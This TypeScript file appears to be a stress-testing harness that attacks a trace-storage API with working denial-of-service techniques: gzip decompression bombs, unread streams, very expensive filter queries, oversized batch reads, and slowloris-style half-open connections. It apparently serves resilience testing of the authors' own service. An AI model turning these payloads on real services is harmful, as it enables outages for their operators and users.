import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { protobufField } from "@heddle/trace-model";
import { attackedProject, count, post, readAll } from "./attack.js";
import type { AttackShape, Target } from "./attack.js";

/** Attacks on what keeps and reads traces. */
export const traceAttacks = {
  "compressed exports": { workers: 4, run: sendBomb },
  "unread streams": { workers: 20, run: leaveStreamUnread },
  "expensive queries": { workers: 8, run: sendExpensiveQuery },
  "oversized responses": { workers: 12, run: askForOversized },
  "half-open connections": { workers: 200, run: leaveHalfOpen },
} satisfies Record<string, AttackShape>;

const emptySpans = (bytes: number) =>
  gzipSync(protobufField(1, protobufField(2, Buffer.alloc(bytes, Buffer.from([18, 0])))));
let next = 0;

const bombs = [
  { bytes: emptySpans(33_000_000), type: "application/x-protobuf" },
  { bytes: emptySpans(2_000_000), type: "application/x-protobuf" },
  { bytes: emptySpans(38_000), type: "application/x-protobuf" },
  {
    bytes: gzipSync(`{"resourceSpans":[{"scopeSpans":[{"spans":[${"{},".repeat(10_000_000)}{}]}]}]}`),
    type: "application/json",
  },
];

async function sendBomb(target: Target): Promise<void> {
  const { bytes, type } = bombs[next++ % bombs.length] ?? { bytes: Buffer.alloc(0), type: "" };
  const headers = { "content-type": type, "content-encoding": "gzip", project_id: attackedProject };
  await readAll(await post(target, "/otel/v1/traces", bytes, headers));
}

const expanded = { expand_columns: ["inputs.model"] };

/** Until the service cuts it. */
async function leaveStreamUnread(target: Target): Promise<void> {
  const response = await post(target, "/calls/stream_query", next++ % 2 === 0 ? {} : expanded);
  if (response?.statusCode !== 200) return await readAll(response);
  await delay(60_000);
}

const contains = (n: number) => ({
  $contains: { input: { $getField: "inputs.messages" }, substr: { $literal: `word ${n}` } },
});
const deep = Array.from({ length: 8 }, (_, n) => ["inputs", ...Array.from({ length: n + 1 }, () => "model")].join("."));
const expensiveQueries: ReadonlyArray<readonly [path: string, body: object]> = [
  ["/calls/query_stats", { query: { $expr: { $or: Array.from({ length: 1200 }, (_, n) => contains(n)) } } }],
  ["/calls/query", { sort_by: [{ field: "inputs.messages", direction: "asc" }], limit: 100 }],
  [
    "/calls/query_stats",
    {
      query: { $expr: { $eq: [{ $getField: `${deep.at(-1)}.x` }, { $literal: 1 }] } },
      expand_columns: deep,
    },
  ],
  [
    "/calls/query_stats",
    {
      query: {
        $expr: {
          $in: [{ $getField: "inputs.model" }, Array.from({ length: 5000 }, (_, n) => ({ $literal: `model ${n}` }))],
        },
      },
    },
  ],
];

async function sendExpensiveQuery(target: Target): Promise<void> {
  const [path, body] = expensiveQueries[next++ % expensiveQueries.length] ?? ["", {}];
  await readAll(await post(target, path, body));
}

/** Every third response is read; the others are left until the service cuts them. */
async function askForOversized(target: Target): Promise<void> {
  const refs = (times: number) => ({ project_id: undefined, refs: Array.from({ length: times }, () => target.ref) });
  const responses: ReadonlyArray<readonly [path: string, body: object]> = [
    ["/refs/read_batch", refs(80)],
    ["/refs/read_batch", refs(10)],
    ["/calls/query", { ...expanded, limit: 8 }],
    ["/table/query", { digest: target.table }],
    ["/objs/query", {}],
  ];
  const turn = next++;
  const [path, body] = responses[turn % responses.length] ?? ["", {}];
  const response = await post(target, path, body);
  if (response?.statusCode === 200 && turn % 3 > 0) await delay(60_000);
  else await readAll(response);
}

const unfinished = Buffer.alloc(20_000_000, " ");

/** Headers that never end, and bodies of which the last byte never comes. */
async function leaveHalfOpen({ url, key }: Target): Promise<void> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  const closed = new Promise<void>((resolve) => socket.on("close", () => resolve()));
  socket.on("error", () => {});
  socket.once("data", (data) => count(/^HTTP\/1\.1 (\d+)/.exec(data.toString())?.[1] ?? "?"));
  const start = `POST /call/upsert_batch HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${key}\r\n`;
  if (next++ % 5 === 0) {
    socket.write(`${start}content-type: application/json\r\ncontent-length: 33000000\r\n\r\n`);
    socket.write(unfinished);
  } else {
    socket.write(start);
  }
  await Promise.race([closed, delay(60_000)]);
  if (!socket.destroyed) socket.destroy();
  else count("cut");
}
